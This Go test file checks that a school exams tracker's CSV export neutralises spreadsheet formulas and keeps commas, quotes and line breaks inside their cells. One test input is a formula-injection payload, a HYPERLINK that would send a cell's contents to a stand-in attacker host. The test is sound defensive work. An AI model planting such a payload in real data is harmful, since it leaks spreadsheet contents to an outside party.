package main

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/eops/eops/standards"
)

// TestTrackerCSVIsSafeInASpreadsheet: names people typed go into the MIS's
// CSV as text: a formula stays text behind an apostrophe, and commas,
// quotes and line breaks stay in their cell.
func TestTrackerCSVIsSafeInASpreadsheet(t *testing.T) {
	t.Parallel()
	areas := []standards.AreaProgress{{Area: standards.AreaKnowledge, Total: 1}, {Area: standards.AreaSkills}, {Area: standards.AreaValues}}
	entry := func(name, email string) standards.DashboardEntry {
		return standards.DashboardEntry{
			ExamsOfficer: standards.Member{Person: standards.Person{Name: name, Email: email}},
			Areas:        areas,
			Flags:        []standards.Flag{{Code: standards.FlagNoOverseer}},
		}
	}
	board := standards.CentreDashboard{ExamsOfficers: []standards.DashboardEntry{
		entry(`=HYPERLINK("http://evil.example/?"&B2,"Eve")`, "eve@riverside.sch.uk"),
		entry(`Smith, "Ann"`+"\nthe second", "ann@riverside.sch.uk"),
		entry("@SUM(1+1)", "-x@riverside.sch.uk"),
	}}
	var buf bytes.Buffer
	require.NoError(t, writeTrackerCSV(&buf, board))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4)
	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?"&B2,"Eve")`, "eve@riverside.sch.uk", "0/1", "0/0", "0/0", "", "0", "", "false", "no_overseer"}, rows[1])
	assert.Equal(t, `Smith, "Ann"`+"\nthe second", rows[2][0])
	assert.Equal(t, []string{"'@SUM(1+1)", "'-x@riverside.sch.uk"}, rows[3][:2])
}
